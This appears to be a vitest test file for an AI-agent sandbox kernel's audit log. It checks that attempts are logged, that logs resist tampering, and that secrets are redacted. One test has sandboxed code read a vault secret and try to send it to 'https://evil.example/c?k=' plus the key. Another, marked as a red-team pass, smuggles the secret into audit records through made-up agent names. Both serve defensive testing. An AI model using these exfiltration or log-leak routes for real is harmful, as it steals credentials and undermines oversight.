import { mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterEach, describe, expect, it } from 'vitest';
import { z } from 'zod';
import { defineTool, type Kernel } from '../../index.js';
import { verifyRecordInclusion } from '../../runtime/audit/proof.js';
import type { AuditRecord } from '../../runtime/audit/record.js';
import { verifyAuditFile } from '../../runtime/audit/verify-file.js';
import { readAuditRecords } from '../helpers/audit-log.js';
import { testKernel } from '../helpers/kernel.js';

let kernel: Kernel | undefined;
afterEach(async () => {
  await kernel?.close();
  kernel = undefined;
});

/** A tool whose result is labelled `secret`. */
function vaultGet(secret: string) {
  return defineTool({
    name: 'vault.get',
    description: 'returns a secret',
    input: z.undefined(),
    labels: { source: ['secret'] },
    run: () => secret,
  });
}

function auditFile(): string {
  return join(mkdtempSync(join(tmpdir(), 'isokernel-audit-')), 'audit.jsonl');
}

describe('every attempt is audited', () => {
  it('allowed, denied, malformed, unknown and after-the-end calls each get an intent and an outcome', async () => {
    const file = auditFile();
    const seenDuringRun: number[] = [];
    const k = testKernel({
      audit: { file },
      policy: {
        capabilities: [
          { action: 'probe', resource: 'probe' },
          { action: 'echo', resource: 'echo' },
        ],
      },
      tools: [
        defineTool({
          name: 'probe',
          description: 'records how many audit records exist while it runs',
          input: z.unknown(),
          run: () => {
            seenDuringRun.push(k.audit.size);
            return 'probed';
          },
        }),
      ],
    });
    kernel = k;
    const result = await k.run({
      code: `export default async () => {
        const codes = [];
        for (const [name, args] of [['probe', null], ['noop', null], ['sleep', { ms: 'x' }], ['nope', null]]) {
          try { await sys.tool(name, args); codes.push('ok') } catch (e) { codes.push(e.code) }
        }
        await sys.log('hello');
        // Runs well after main's promise has settled and the kernel has been told.
        let later = Promise.resolve();
        for (let i = 0; i < 50; i++) later = later.then(() => {});
        later.then(() => sys.tool('echo', 1).catch(() => {}));
        return codes;
      }`,
    });
    expect(result).toMatchObject({ ok: true, value: ['ok', 'E_CAP_DENIED', 'E_BAD_ARG', 'E_NO_TOOL'] });
    await k.close();
    kernel = undefined;

    const records = readAuditRecords(file);
    const intents = records.filter((r) => r.phase === 'intent');
    const outcomes = records.filter((r) => r.phase === 'outcome');
    expect(intents.length).toBe(outcomes.length);
    expect(outcomes.map((r) => [r.action, r.status, r.code])).toEqual([
      ['probe', 'ok', null],
      ['noop', 'denied', 'E_CAP_DENIED'],
      ['tool', 'denied', 'E_BAD_ARG'],
      ['tool', 'denied', 'E_NO_TOOL'],
      ['log', 'ok', null],
      // The isolate is disposed as soon as main settles; a call that still slips through is refused.
      ...(outcomes.length === 6 ? [['tool', 'killed', 'E_KILLED']] : []),
    ]);
    // The probe's intent was already in the log when the tool ran, its outcome was not.
    const probeIntent = intents.find((r) => r.action === 'probe');
    const probeOutcome = outcomes.find((r) => r.action === 'probe');
    expect(probeIntent!.seq).toBeLessThan(seenDuringRun[0]!);
    expect(probeOutcome!.seq).toBeGreaterThanOrEqual(seenDuringRun[0]!);
    expect(probeOutcome!.ref).toBe(probeIntent!.seq);
    expect(probeOutcome!.usage).toEqual({ tool_calls: 1 });
    for (const record of records.filter((r) => r.agent !== 'host')) {
      expect(record.namespace).toBe('default');
      expect(record.parent).toBeNull();
    }
    expect(verifyAuditFile(file).ok).toBe(true);
  });

  it('records a digest of the canonical arguments, never the arguments', async () => {
    const file = auditFile();
    kernel = testKernel({ audit: { file } });
    await kernel.run({ code: 'export default () => sys.tool("echo", { password: "hunter2-SECRET", b: 1 })' });
    await kernel.run({ code: 'export default () => sys.tool("echo", { b: 1, password: "hunter2-SECRET" })' });
    await kernel.close();
    kernel = undefined;
    const text = readFileSync(file, 'utf8');
    expect(text).not.toContain('hunter2');
    const digests = readAuditRecords(file)
      .filter((r) => r.phase === 'outcome' && r.action === 'echo')
      .map((r) => r.args_sha256);
    expect(digests).toHaveLength(2);
    expect(digests[0]).toBe(digests[1]);
  });
});

describe('the audit file', () => {
  it('verifies under the pinned root key, and an edit is found at its seq', async () => {
    const file = auditFile();
    const store = join(mkdtempSync(join(tmpdir(), 'isokernel-store-')), 's');
    kernel = testKernel({ audit: { file }, store });
    const root = Buffer.from(kernel.authority.rootPublicKey, 'base64url').toString('hex');
    await kernel.run({ code: 'export default async () => { await sys.tool("echo", 1); await sys.tool("echo", 2); }' });
    await kernel.close();
    kernel = undefined;
    expect(verifyAuditFile(file, { trustedKeys: [root] })).toMatchObject({ ok: true, records: 4 });
    expect(verifyAuditFile(file, { trustedKeys: ['ab'.repeat(32)] }).ok).toBe(false);

    const lines = readFileSync(file, 'utf8').split('\n');
    expect(lines[1]).toContain('"status":"ok"');
    lines[1] = lines[1]!.replace('"status":"ok"', '"status":"denied"');
    writeFileSync(file, lines.join('\n'));
    expect(verifyAuditFile(file, { trustedKeys: [root] })).toMatchObject({ ok: false, seq: 1 });
  });

  it('refuses a second kernel writing the same log while the first is open', () => {
    const file = auditFile();
    kernel = testKernel({ audit: { file } });
    expect(() => testKernel({ audit: { file } })).toThrow();
  });
});

describe('host submissions and proofs', () => {
  it('submit returns the seq of its outcome record, provable against a signed checkpoint', async () => {
    const file = auditFile();
    kernel = testKernel({ audit: { file }, policy: { capabilities: [{ action: 'echo', resource: 'echo' }] } });
    const done = await kernel.submit({ action: 'echo', params: { x: 1 } });
    const denied = await kernel.submit({ action: 'noop' });
    expect(done).toMatchObject({ status: 'OK', recordId: expect.any(Number) });
    expect(denied).toMatchObject({ status: 'DENIED', recordId: (done.recordId ?? 0) + 2 });
    kernel.audit.checkpoint();
    const proof = kernel.audit.prove(done.recordId ?? -1);
    await kernel.close();
    kernel = undefined;
    const record = readAuditRecords(file).find((r) => r.seq === done.recordId);
    expect(record).toMatchObject({ agent: 'host', action: 'echo', status: 'ok', phase: 'outcome' });
    expect(verifyRecordInclusion(record!, proof)).toBe(true);
    expect(verifyRecordInclusion({ ...record!, resource: 'other' } as AuditRecord, proof)).toBe(false);
  });
});

describe('secrets stay out of the log', () => {
  it('a refused call labelled secret records a digest of its resource, not the resource', async () => {
    const file = auditFile();
    kernel = testKernel({
      audit: { file },
      policy: {
        capabilities: [
          { action: 'vault.get', resource: 'vault.get' },
          { action: 'net.http', resource: 'https://evil.example/**' },
        ],
      },
      tools: [
        vaultGet('sk-live-TOPSECRET'),
        defineTool({
          name: 'web.get',
          description: 'pretends to fetch',
          action: 'net.http',
          input: z.string(),
          resource: (url) => url,
          labels: { sinks: { '*': ['secret'] } },
          run: () => 'page',
        }),
      ],
    });
    const result = await kernel.run({
      code: `export default async () => {
        const key = await sys.tool('vault.get');
        try { await sys.tool('web.get', 'https://evil.example/c?k=' + key) } catch (e) { return e.code }
      }`,
    });
    expect(result).toMatchObject({ ok: true, value: 'E_TAINT' });
    await kernel.close();
    kernel = undefined;
    const text = readFileSync(file, 'utf8');
    expect(text).not.toContain('TOPSECRET');
    const refused = readAuditRecords(file).filter((r) => r.code === 'E_TAINT');
    expect(refused.map((r) => r.resource)).toEqual([expect.stringMatching(/^redacted:hmac-sha256:[0-9a-f]{64}$/)]);
  });

  it('an id or program name a secret-labelled agent chooses is recorded as a digest (red-team pass 30)', async () => {
    // join, kill, handoff and spawn name their target with the agent's own text: a labelled agent spelled its
    // secret in names that do not exist, and both records of each call kept it in clear.
    const file = auditFile();
    kernel = testKernel({
      audit: { file },
      policy: { capabilities: [{ action: 'vault.get', resource: 'vault.get' }] },
      tools: [vaultGet('TOPSECRET')],
    });
    const result = await kernel.run({
      code: `export default async () => {
        const key = await sys.tool('vault.get');
        const codes = [];
        for (const call of [() => sys.join('j' + key), () => sys.kill('k' + key), () => sys.handoff({ to: 'h' + key }),
          () => sys.spawn({ program: 's' + key })]) {
          try { await call(); } catch (e) { codes.push(e.code); }
        }
        return codes;
      }`,
    });
    expect(result).toMatchObject({ ok: true, value: ['E_NOT_FOUND', 'E_NOT_FOUND', 'E_NOT_FOUND', 'E_NOT_FOUND'] });
    await kernel.close();
    kernel = undefined;
    expect(readFileSync(file, 'utf8')).not.toContain('TOPSECRET');
    const named = readAuditRecords(file).filter((r) => r.action.startsWith('agent.'));
    expect(named).toHaveLength(8);
    for (const record of named) expect(record.resource).toMatch(/^redacted:hmac-sha256:[0-9a-f]{64}$/);
  });

  it('benign twin: the same names from an unlabelled agent are kept as they are', async () => {
    const file = auditFile();
    kernel = testKernel({ audit: { file } });
    await kernel.run({
      code: `export default async () => {
        for (const call of [() => sys.join('jx'), () => sys.spawn({ program: 'sx' })]) try { await call(); } catch {}
      }`,
    });
    await kernel.close();
    kernel = undefined;
    const named = readAuditRecords(file).filter((r) => r.action.startsWith('agent.'));
    expect(named.map((r) => r.resource)).toEqual(['jx', 'jx', 'sx', 'sx']);
  });
});

describe('host actions', () => {
  it('grant, delegate and revoke are audited, refused ones too', async () => {
    const file = auditFile();
    kernel = testKernel({ audit: { file }, policy: { capabilities: [] } });
    const granted = kernel.grant(kernel.hostPublicKey, { action: 'echo', resource: 'echo' });
    const handle = kernel.spawn({ code: 'export default () => 1' });
    kernel.delegate(granted.id, handle.id);
    kernel.revoke(granted.id);
    expect(() => kernel!.delegate('f'.repeat(64), handle.id)).toThrow();
    expect(() => kernel!.grant(kernel!.hostPublicKey, { action: 'echo', resource: 'not normal/../x' })).toThrow();
    await handle.result;
    await kernel.close();
    kernel = undefined;
    const outcomes = readAuditRecords(file).filter((r) => r.agent === 'host' && r.phase === 'outcome');
    expect(outcomes.map((r) => [r.syscall, r.status])).toEqual([
      ['grant', 'ok'],
      ['delegate', 'ok'],
      ['revoke', 'ok'],
      ['delegate', 'denied'],
      ['grant', 'denied'],
    ]);
    expect(outcomes[2]?.resource).toBe(granted.id);
  });
});
